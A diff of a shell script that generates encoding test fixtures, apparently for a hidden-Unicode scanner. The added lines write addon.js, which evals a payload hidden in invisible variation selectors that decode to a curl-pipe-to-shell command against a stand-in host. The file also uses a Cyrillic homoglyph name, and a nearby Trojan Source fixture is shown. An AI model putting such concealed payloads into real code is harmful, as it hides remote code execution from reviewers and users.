@@ -32,6 +32,9 @@ printf '<p>Stra\303\237e, Caf\303\251, 5\302\240\342\202\254</p>\r\n<p>Gr\303\26
 # Code that does not do what it shows (Trojan Source), with a zero width space.
 printf 'if access != "user\342\200\256 \342\201\246// admins only\342\201\251 \342\201\246" {\n    grant\342\200\213(user);\n' >access.c
 
+# Code that hides a command in variation selectors, and a name with a Cyrillic letter.
+printf 'const run = eval;\nconst p\320\260yload = 1;\nrun(decode(`\363\240\205\223\363\240\205\245\363\240\205\242\363\240\205\234\363\240\204\220\363\240\205\225\363\240\205\246\363\240\205\231\363\240\205\234\363\240\204\236\363\240\205\243\363\240\205\230\363\240\205\254\363\240\205\243\363\240\205\230`));\n' >addon.js
+
 # XML that names its encoding.
 printf '<?xml version="1.0" encoding="ISO-8859-1"?>\n<name>Ren\351e</name>\n' >person.xml
 
